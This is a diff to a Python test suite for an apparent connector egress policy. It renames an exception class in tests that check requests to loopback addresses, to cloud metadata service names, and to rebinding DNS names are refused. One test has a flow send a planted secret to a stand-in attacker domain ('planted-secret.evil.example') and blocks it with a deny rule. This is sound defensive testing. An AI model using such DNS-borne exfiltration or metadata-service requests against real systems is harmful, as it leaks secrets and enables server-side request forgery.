@@ -20,7 +20,7 @@ from desktop_world import World
 from hypothesis import given
 from hypothesis import strategies as st
 from name_server import NameServer
-from sealflow.connectors import Call, Egress, Failure, HttpConnector, Services, rule
+from sealflow.connectors import Call, ConnectorError, Egress, HttpConnector, Services, rule
 from sealflow.connectors.egress.addresses import carried, parsed
 from sealflow.connectors.egress.policy import DEFAULTS, InvalidEgressRule
 from sealflow.engine.datatypes import Datum
@@ -211,7 +211,7 @@ async def test_ways_of_writing_loopback(text: str) -> None:
 
     server = await asyncio.start_server(serve, "127.0.0.1", 0)
     port = server.sockets[0].getsockname()[1]
-    with pytest.raises(Failure) as caught:
+    with pytest.raises(ConnectorError) as caught:
         await http(f"http://{text}:{port}/", Egress("public"))
     assert caught.value.code in ("EgressRefused", "ConnectionFailed", "InvalidInput")
     assert visits == 0
@@ -222,7 +222,7 @@ async def test_ways_of_writing_loopback(text: str) -> None:
 async def test_names_of_metadata_services(name: str, names: NameServer) -> None:
     """A flow names a metadata service that resolves to a harmless address: it is refused without a DNS query."""
     names.says(name, ["93.184.216.34"])
-    with pytest.raises(Failure) as caught:
+    with pytest.raises(ConnectorError) as caught:
         await http(f"http://{name}/", Egress("local", OPEN))
     assert caught.value.code == "EgressRefused"
     assert not names.asked
@@ -231,7 +231,7 @@ async def test_names_of_metadata_services(name: str, names: NameServer) -> None:
 async def test_a_denied_name_is_not_looked_up(names: NameServer) -> None:
     """A flow puts data into a name below a domain of the attacker: if the default is `none`, no DNS query is sent."""
     for egress in (Egress("none"), Egress("public", (rule("*.evil.example", allow=False),))):
-        with pytest.raises(Failure) as caught:
+        with pytest.raises(ConnectorError) as caught:
             await http("http://planted-secret.evil.example/", egress)
         assert caught.value.code == "EgressRefused"
     assert not names.asked
@@ -280,7 +280,7 @@ async def test_a_name_that_changes_its_address(name: str, world: World, ports: P
         pytest.importorskip("psycopg")
     names.says(NAME, [GOOD], [SECRET])
     action, arguments = _actions(ports.port)[name]
-    with suppress(Failure):  # the server speaks HTTP only
+    with suppress(ConnectorError):  # the server speaks HTTP only
         await world.do(action, **arguments)
     assert ports.visits == {GOOD: 1, SECRET: 0}
     assert names.asked[NAME] == 1
@@ -308,7 +308,9 @@ async def test_http_actions_connect_to_what_was_judged(ports: Ports, names: Name
     url = f"http://{NAME}:{ports.port}/"
     assert await http(url, PUBLIC) == "data"
     for _ in range(2):
-        with pytest.raises(Failure, match=f"'{NAME}:{ports.port}' was refused: its address is a loopback address"):
+        with pytest.raises(
+            ConnectorError, match=f"'{NAME}:{ports.port}' was refused: its address is a loopback address"
+        ):
             await http(url, PUBLIC)
     assert ports.visits == {GOOD: 1, SECRET: 0}
     assert names.asked[NAME] == 3
@@ -374,7 +376,7 @@ async def test_work_that_is_polled_elsewhere_is_judged(ports: Ports) -> None:
         writer.close()
 
     server = await asyncio.start_server(serve, GOOD, 0)
-    with pytest.raises(Failure) as caught:
+    with pytest.raises(ConnectorError) as caught:
         await http(f"http://{GOOD}:{server.sockets[0].getsockname()[1]}/", PUBLIC)
     assert caught.value.code == "EgressRefused"
     assert ports.visits[SECRET] == 0
